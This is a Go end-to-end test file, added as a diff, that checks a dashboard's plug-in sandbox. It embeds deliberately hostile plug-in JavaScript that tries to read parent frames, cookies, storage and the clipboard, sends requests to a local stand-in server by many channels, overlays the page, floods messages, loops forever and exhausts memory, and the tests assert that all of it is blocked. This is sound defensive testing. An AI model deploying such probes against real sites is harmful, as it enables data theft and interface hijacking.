@@ -1,0 +1,184 @@
+//go:build !js
+
+package e2e
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/tensorbored/tensorbored-static/wasm/browsertest"
+)
+
+// reaching is a front end that tries to reach what is not its own, and writes what came of it.
+const reaching = `
+const tries = {
+	parent: () => parent.document.title,
+	top: () => top.document.body.innerHTML,
+	sibling: () => [...Array(parent.frames.length).keys()].map((i) => parent.frames[i]).filter((f) => f !== window).map((f) => f.document.title).join(),
+	storage: () => localStorage.length,
+	session: () => sessionStorage.length,
+	cookie: () => document.cookie,
+	database: () => new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = () => no(r.error); }),
+	caches: () => caches.keys(),
+	logs: async () => (await fetch(new URL("/data/listing.json", location.href))).text(),
+	logsHidden: () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error("refused")); i.src = "/data/listing.json"; }),
+	fetch: async () => (await fetch("OUTSIDE/fetch", {mode: "no-cors"})).type,
+	xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open("GET", "OUTSIDE/xhr"); x.onload = yes; x.onerror = () => no(new Error("refused")); x.send(); }),
+	image: () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error("refused")); i.src = "OUTSIDE/image.png"; }),
+	script: () => import("OUTSIDE/script.js"),
+	beacon: () => { navigator.sendBeacon("OUTSIDE/beacon", "x"); throw new Error("nobody is told"); },
+	socket: () => new Promise((yes, no) => { const w = new WebSocket("OUTSIDE/socket".replace("http", "ws")); w.onopen = yes; w.onerror = () => no(new Error("refused")); }),
+	frame: () => new Promise((_, no) => { const f = document.createElement("iframe"); f.src = "OUTSIDE/frame"; document.body.append(f); setTimeout(() => no(new Error("nobody is told")), 300); }),
+	clipboard: () => navigator.clipboard.readText(),
+	write: () => navigator.clipboard.writeText("stolen"),
+	popup: () => { if (window.open("OUTSIDE/popup")) return "opened"; throw new Error("refused"); },
+	leave: () => { top.location.href = "OUTSIDE/leave"; return "set"; },
+	worker: () => new Promise((yes, no) => {
+		const w = new Worker(URL.createObjectURL(new Blob(["fetch('OUTSIDE/worker',{mode:'no-cors'}).then(()=>postMessage(1),()=>postMessage(0))"])));
+		w.onmessage = (e) => e.data ? yes() : no(new Error("refused"));
+	}),
+	prototype: async () => { await tensorbored.data.constructor({}); },
+	unknown: async () => { await tensorbored.data.__proto__({}); },
+};
+export async function render() {
+	const out = document.body.appendChild(document.createElement("pre"));
+	const over = document.body.appendChild(document.createElement("div"));
+	over.textContent = "over";
+	over.style.cssText = "position:fixed;inset:-2000px;z-index:2147483647;background:#f00;opacity:.2";
+	for (const [name, f] of Object.entries(tries)) {
+		try {
+			await f();
+			out.textContent += name + ": REACHED\n";
+		} catch (e) {
+			out.textContent += name + ": no\n";
+		}
+	}
+	alert("stop");
+	out.textContent += "done\n";
+}`
+
+// A hostile front end reads nothing but the logs, reaches nobody, and draws over nothing; one
+// that floods the page is stopped, one that never ends holds up nobody.
+func TestPageHostileFront(t *testing.T) {
+	t.Parallel()
+	l := greeted(t)
+	var outside atomic.Int64
+	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		outside.Add(1)
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+	}))
+	defer other.Close()
+	evil := written(t, "evil", "", map[string]string{"index.js": strings.ReplaceAll(reaching, "OUTSIDE", other.URL)})
+	flood := written(t, "flood", "", map[string]string{"index.js": `export function render() {
+		document.body.textContent = "flooding";
+		setInterval(() => { for (let i = 0; i < 1000; i++) tbPlugin.port.postMessage({op: "state", id: i}); }, 100);
+	}`})
+	loop := written(t, "forever", "", map[string]string{"index.js": `export function render() { document.body.textContent = "begins"; setTimeout(() => { for (;;); }, 200); }`})
+	for _, kind := range browsertest.Kinds {
+		t.Run(string(kind), func(t *testing.T) {
+			s := comes(t, kind, plugged(t, l.dir, evil, flood, loop, example(t, "greetings")))
+			s.Allow("")               // what is refused is said on the console
+			s.fresh("#example_basic") // a sibling to look at
+			s.tells("Hello, Alice!, Hello, Bob!")
+			s.Control("button", "evil").Click()
+			s.tells("done")
+			var text string
+			s.Eval(`seen.text`, &text)
+			if strings.Contains(text, "REACHED") || strings.Count(text, ": no") != 24 {
+				t.Errorf("a plug-in reached something:\n%s", text)
+			}
+			if n := outside.Load(); n != 0 {
+				t.Errorf("%d requests went elsewhere", n)
+			}
+			s.Wait(`location.hash === "#evil" && document.elementFromPoint(innerWidth / 2, 20).closest("header.top") && !document.elementFromPoint(20, 300).closest("iframe")`)
+
+			s.Control("button", "flood").Click()
+			s.Wait(`document.querySelector(".plugin-hold:not([hidden])").innerText.includes("The plug-in flood was stopped: it sent more than 2000 messages in a second.")`)
+			s.Control("button", "Greetings").Click()
+			s.tells("Hello, Alice!, Hello, Bob!")
+			if kind == browsertest.Firefox {
+				return // there a frame of opaque origin shares its thread with the page
+			}
+			s.Control("button", "forever").Click()
+			s.tells("begins")
+			s.Control("button", "Time series").Click()
+			s.Wait(`document.querySelector("article.card canvas")`)
+			s.Eval(`seen.text = ""`, nil)
+			s.Control("button", "Greetings").Click()
+			s.Wait(`document.querySelector(".plugin-hold:not([hidden])").innerText.includes("The plug-in forever has not given its turn back")`)
+			s.Control("button", "End it").Click()
+			s.tells("Hello, Alice!, Hello, Bob!")
+			s.Control("button", "forever").Click()
+			s.Wait(`document.querySelector(".plugin-hold:not([hidden])").innerText.includes("The plug-in forever was stopped")`)
+		})
+	}
+}
+
+// A hostile back end (it never ends, takes 4 GB, throws, answers nonsense) is ended and begun
+// anew; the page and other plug-ins go on.
+func TestPageHostileBack(t *testing.T) {
+	t.Parallel()
+	l := greeted(t)
+	evil := written(t, "evil", `, "routes": ["/*"], "backend": {"type": "module", "path": "/back.js"}`, map[string]string{
+		"index.js": `export function render() {
+			document.body.textContent = "ready";
+			const ask = async (path) => {
+				let text;
+				try { const a = await fetch("." + path); text = a.status + " " + await a.text(); } catch (e) { text = "error " + e.message; }
+				document.body.append(" | " + path + ": " + text);
+			};
+			tensorbored.on("theme", () => {});
+			(async () => { for (const p of ["/fine", "/throws", "/odd", "/many", "/memory", "/fine", "/reach"]) await ask(p); ask("/loop"); })();
+		}`,
+		"back.js": `const keep = [];
+		export async function request({path}, data) {
+			const text = (t) => ({status: 200, headers: {}, body: new TextEncoder().encode(t).buffer});
+			switch (path) {
+			case "/fine": return text("fine");
+			case "/throws": throw new Error("thrown");
+			case "/odd": return 7;
+			case "/many": {
+				const all = await Promise.allSettled(Array.from({length: 10000}, () => data.list_runs()));
+				return text(all.filter((a) => a.status === "fulfilled").length + " of 10000");
+			}
+			case "/memory":
+				try { for (let i = 0; i < 4; i++) keep.push(new ArrayBuffer(2 ** 30)); new Uint8Array(keep[0]).fill(1, 0, 2 ** 28); } catch (e) {}
+				return text("took");
+			case "/reach": {
+				const out = [];
+				for (const f of [() => indexedDB.open("x"), () => caches.keys(), () => fetch("/data/listing.json"), () => importScripts("https://example.invalid/x.js")]) {
+					try { const v = await f(); out.push(v?.onerror === null ? "no" : "REACHED"); } catch { out.push("no"); }
+				}
+				return text(out.join());
+			}
+			case "/loop": for (;;);
+			}
+		}`,
+	})
+	wasm := written(t, "broken", `, "routes": ["/x"], "backend": {"type": "wasip1", "path": "/back.wasm"}`, map[string]string{
+		"index.js": `export async function render() { document.body.textContent = await (await fetch("./x")).text(); }`, "back.wasm": "this is no program"})
+	for _, kind := range browsertest.Kinds {
+		t.Run(string(kind), func(t *testing.T) {
+			s := comes(t, kind, plugged(t, l.dir, evil, wasm, example(t, "greetings")))
+			s.Allow("")
+			s.fresh("#evil")
+			for _, text := range []string{"/fine: 200 fine", "/throws: 502 thrown", "/odd: 502", "of 10000", "/memory: 200 took", "/reach: 200 no,no,no,no"} {
+				s.tells(text)
+			}
+			// It hangs now: other plug-ins and dashboards are as quick as ever.
+			s.Control("button", "Greetings").Click()
+			s.tells("Hello, Alice!, Hello, Bob!")
+			s.Control("button", "evil").Click()
+			end := s.Control("button", "End it and start again")
+			end.Click()
+			s.Wait(`seen.text.split("/fine: 200 fine").length >= 3 && seen.text.includes("/reach")`)
+			s.Control("button", "broken").Click()
+			s.Wait(`document.querySelector(".plugin-hold:not([hidden])").innerText.includes("This plug-in is inactive: its back end says:")`)
+			s.Control("button", "Time series").Click()
+			s.Wait(`document.querySelector("article.card canvas")`)
+		})
+	}
+}
